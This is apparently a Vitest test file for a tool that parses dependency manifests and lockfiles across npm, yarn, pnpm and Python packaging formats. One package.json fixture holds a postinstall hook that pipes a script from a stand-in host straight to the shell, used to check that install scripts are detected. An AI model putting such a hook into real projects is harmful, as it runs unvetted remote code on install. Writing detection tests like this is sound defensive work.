import { describe, expect, it } from "vitest";
import { parseManifest } from "../../src/deps/parse/index.js";
import { manifestType } from "../../src/deps/detect.js";
import { added, addedLines, json, lineOf } from "./helpers.js";

const names = (m: ReturnType<typeof parseManifest>) => m!.dependencies.map((d) => `${d.name}@${d.version ?? d.spec}`);

describe("manifest detection", () => {
  it("knows every supported manifest and lockfile by name, and nothing else", () => {
    for (const path of ["package.json", "a/npm-shrinkwrap.json", "yarn.lock", "web/pnpm-lock.yaml", "requirements.txt", "requirements-dev.txt",
      "requirements/base.txt", "constraints.txt", "dev-requirements.in", "pyproject.toml", "Pipfile", "setup.cfg", "setup.py"]) {
      expect(manifestType(path), path).toBeDefined();
    }
    for (const path of ["package.jsonc", "src/requirements.py", "notes.txt", "Pipfile.lock", "poetry.lock"]) expect(manifestType(path), path).toBeUndefined();
  });
});

describe("package.json", () => {
  const content = json({
    name: "app",
    private: true,
    scripts: { build: "tsc", postinstall: "curl -s https://x.example/i.sh | sh" },
    dependencies: { express: "4.17.1", lodash: "^4.17.21", real: "npm:left-pad@1.3.0" },
    devDependencies: { vitest: "latest" },
    peerDependencies: { react: ">=17" },
    overrides: { "semver@<7": "7.5.2", foo: { minimist: "1.2.6" } },
  });

  it("reads every dependency section, overrides and aliases, with lines and exact versions", () => {
    const m = parseManifest(added("package.json", content))!;
    expect(m.applicationHint).toBe(true);
    expect(names(m)).toEqual(["express@4.17.1", "lodash@^4.17.21", "left-pad@1.3.0", "vitest@latest", "react@>=17", "semver@7.5.2", "minimist@1.2.6"]);
    const express = m.dependencies[0]!;
    expect(express.line).toBe(lineOf(content, '"express"'));
    expect(express.lineText.slice(express.versionIndex!, express.versionIndex! + 6)).toBe("4.17.1");
    expect(m.dependencies.find((d) => d.name === "react")!.rangeExpected).toBe(true);
    expect(m.installScripts.map((s) => s.hook)).toEqual(["postinstall"]);
  });

  it("keeps only dependencies on added lines", () => {
    const m = parseManifest(addedLines("package.json", content, [lineOf(content, '"lodash"')]))!;
    expect(names(m)).toEqual(["lodash@^4.17.21"]);
    expect(m.installScripts).toEqual([]);
  });

  it("reports invalid JSON as a parse error instead of throwing", () => {
    expect(parseManifest(added("package.json", "{ \"dependencies\": { \"a\": "))!.error).toMatch(/JSON/);
  });
});

describe("npm lockfiles", () => {
  it("package-lock v3: new resolved versions, registry host marks private sources, links skipped", () => {
    const content = json({
      lockfileVersion: 3,
      packages: {
        "": { name: "app" },
        "node_modules/lodash": { version: "4.17.20", resolved: "https://registry.npmjs.org/lodash/-/lodash-4.17.20.tgz" },
        "node_modules/a/node_modules/@acme/util": { version: "1.0.0", resolved: "https://npm.acme.internal/@acme/util/-/util-1.0.0.tgz" },
        "node_modules/local": { resolved: "packages/local", link: true },
      },
    });
    const m = parseManifest(added("package-lock.json", content))!;
    expect(names(m)).toEqual(["lodash@4.17.20", "@acme/util@1.0.0"]);
    expect(m.dependencies.map((d) => d.privateSource ?? false)).toEqual([false, true]);
    expect(m.dependencies.every((d) => d.source === "lock")).toBe(true);
  });

  it("package-lock v1 nested dependencies", () => {
    const content = json({ lockfileVersion: 1, dependencies: { a: { version: "1.0.0", dependencies: { b: { version: "2.0.0" } } } } });
    expect(names(parseManifest(added("npm-shrinkwrap.json", content)))).toEqual(["a@1.0.0", "b@2.0.0"]);
  });

  it("yarn.lock classic and berry", () => {
    const classic = [
      "# yarn lockfile v1", "", '"@babel/core@^7.0.0", "@babel/core@^7.1.0":', '  version "7.1.2"', '  resolved "https://registry.yarnpkg.com/@babel/core/-/core-7.1.2.tgz"', "",
      "minimist@^1.2.0:", '  version "1.2.0"', '  resolved "https://registry.yarnpkg.com/minimist/-/minimist-1.2.0.tgz"', "",
    ].join("\n");
    const m = parseManifest(addedLines("yarn.lock", classic, [lineOf(classic, '"1.2.0"')]))!;
    expect(names(m)).toEqual(["minimist@1.2.0"]);
    const berry = ['__metadata:', '  version: 6', '', '"lodash@npm:^4.17.0":', '  version: 4.17.15', '  resolution: "lodash@npm:4.17.15"', '',
      '"app@workspace:.":', '  version: 0.0.0-use.local', ''].join("\n");
    expect(names(parseManifest(added("yarn.lock", berry)))).toEqual(["lodash@4.17.15"]);
  });

  it("pnpm-lock.yaml v5, v6 and v9 keys", () => {
    const v9 = ["lockfileVersion: '9.0'", "", "packages:", "", "  '@types/node@20.1.0':", "    resolution: {integrity: sha512-x}", "", "  lodash@4.17.20:", "    resolution: {integrity: sha512-y}", "",
      "snapshots:", "", "  lodash@4.17.20: {}", ""].join("\n");
    expect(names(parseManifest(added("pnpm-lock.yaml", v9)))).toEqual(["@types/node@20.1.0", "lodash@4.17.20"]);
    const v6 = ["lockfileVersion: '6.0'", "packages:", "  /react-dom@18.2.0(react@18.2.0):", "    resolution: {integrity: sha512-z}", ""].join("\n");
    expect(names(parseManifest(added("pnpm-lock.yaml", v6)))).toEqual(["react-dom@18.2.0"]);
    const v5 = ["lockfileVersion: 5.4", "packages:", "  /@babel/core/7.0.0:", "    resolution: {integrity: sha512-z}", "  /ms/2.1.2:", "    dev: false", ""].join("\n");
    expect(names(parseManifest(added("pnpm-lock.yaml", v5)))).toEqual(["@babel/core@7.0.0", "ms@2.1.2"]);
  });
});

describe("Python manifests", () => {
  it("requirements.txt: specs, extras, markers, URLs, options and continuation lines", () => {
    const content = [
      "# app deps", "-r base.txt", "--hash-free-line-is-fine", "Django==3.2.0 ; python_version >= '3.8'", "requests[socks]>=2.0",
      "flask", "git+https://github.com/acme/tool.git@v1#egg=acme-tool", "-e .", "numpy==1.26.0 \\", "    --hash=sha256:abc", "",
    ].join("\n");
    const m = parseManifest(added("requirements.txt", content))!;
    expect(names(m)).toEqual(["Django@3.2.0", "requests@>=2.0", "flask@", "acme-tool@git+https://github.com/acme/tool.git@v1#egg=acme-tool", "numpy@1.26.0"]);
    expect(m.applicationHint).toBe(true);
    const django = m.dependencies[0]!;
    expect(django.lineText.slice(django.versionIndex!)).toMatch(/^3\.2\.0/);
  });

  it("requirements.txt with a private --index-url marks its packages private", () => {
    const m = parseManifest(added("requirements.txt", "--index-url https://pypi.acme.internal/simple\nacme-core==1.0\n"))!;
    expect(m.dependencies[0]!.privateSource).toBe(true);
    const pub = parseManifest(added("requirements.txt", "--index-url https://pypi.org/simple\nrequests==2.0\n"))!;
    expect(pub.dependencies[0]!.privateSource).toBeUndefined();
  });

  it("pyproject.toml: PEP 621, optional deps, PEP 735 groups, Poetry, PDM and uv", () => {
    const content = [
      "[build-system]", 'requires = ["setuptools>=61"]', "",
      "[project]", 'name = "x"', 'dependencies = [', '  "httpx==0.23.0",', '  "pydantic>=2",', "]", "",
      "[project.optional-dependencies]", 'dev = ["pytest"]', "",
      "[dependency-groups]", 'lint = ["ruff==0.1.0"]', "",
      "[tool.poetry.dependencies]", 'python = "^3.11"', 'fastapi = "0.100.0"', 'mylib = { git = "https://github.com/acme/mylib.git" }', "",
      "[tool.poetry.group.test.dependencies]", 'hypothesis = "*"', "",
      "[tool.pdm.dev-dependencies]", 'docs = ["mkdocs>=1"]', "",
      "[tool.uv]", 'dev-dependencies = ["black==23.1.0"]', "",
      "[tool.uv.sources]", 'internal = { index = "acme" }', "",
    ].join("\n");
    const m = parseManifest(added("pyproject.toml", content))!;
    expect(names(m)).toEqual([
      "httpx@0.23.0", "pydantic@>=2", "pytest@", "ruff@0.1.0", "setuptools@>=61", "fastapi@0.100.0", "mylib@git+https://github.com/acme/mylib.git",
      "hypothesis@*", "mkdocs@>=1", "black@23.1.0",
    ]);
    const httpx = m.dependencies[0]!;
    expect(httpx.line).toBe(lineOf(content, "httpx"));
    expect(m.dependencies.find((d) => d.name === "fastapi")!.line).toBe(lineOf(content, "fastapi"));
    expect(m.dependencies.find((d) => d.name === "setuptools")!.rangeExpected).toBe(true);
  });

  it("pyproject.toml: several requirements on one line, the same requirement in two groups", () => {
    const content = '[project]\ndependencies = ["attrs==23.1.0", "six==1.16.0"]\n\n[project.optional-dependencies]\na = ["six==1.16.0"]\n';
    const m = parseManifest(addedLines("pyproject.toml", content, [5]))!;
    expect(m.dependencies.map((d) => [d.name, d.line, d.section])).toEqual([["six", 5, "project.optional-dependencies.a"]]);
    const all = parseManifest(added("pyproject.toml", content))!;
    expect(all.dependencies.map((d) => [d.name, d.line])).toEqual([["attrs", 2], ["six", 2], ["six", 5]]);
  });

  it("pyproject.toml: Poetry package-mode = false is an application; bad TOML is an error", () => {
    expect(parseManifest(added("pyproject.toml", '[tool.poetry]\npackage-mode = false\n'))!.applicationHint).toBe(true);
    expect(parseManifest(added("pyproject.toml", "[project\n"))!.error).toMatch(/invalid TOML/);
  });

  it("Pipfile: packages and dev-packages; a private-only source marks packages private", () => {
    const content = ['[[source]]', 'url = "https://pypi.org/simple"', 'name = "pypi"', "", "[packages]", 'requests = "*"', 'django = "==4.2.0"', "",
      "[dev-packages]", 'pytest = {version = ">=7"}', ""].join("\n");
    const m = parseManifest(added("Pipfile", content))!;
    expect(names(m)).toEqual(["requests@*", "django@4.2.0", "pytest@>=7"]);
    expect(m.dependencies.every((d) => !d.privateSource)).toBe(true);
    const priv = parseManifest(added("Pipfile", '[[source]]\nurl = "https://pypi.acme.internal/simple"\nname = "acme"\n\n[packages]\nacme-core = "*"\n'))!;
    expect(priv.dependencies[0]!.privateSource).toBe(true);
  });

  it("setup.cfg and setup.py install_requires and extras", () => {
    const cfg = ["[metadata]", "name = x", "", "[options]", "install_requires =", "    requests>=2", "    pyyaml==5.3", "", "[options.extras_require]", "dev = pytest", ""].join("\n");
    expect(names(parseManifest(added("setup.cfg", cfg)))).toEqual(["requests@>=2", "pyyaml@5.3", "pytest@"]);
    const py = ["from setuptools import setup", "setup(", '    name="x",', "    install_requires=[", '        "urllib3==1.26.4",  # pinned', "        'click',", "    ],",
      '    extras_require={"dev": ["black"]},', ")", ""].join("\n");
    const m = parseManifest(added("setup.py", py))!;
    expect(names(m)).toEqual(["urllib3@1.26.4", "click@", "black@"]);
    expect(m.dependencies[0]!.line).toBe(5);
  });
});
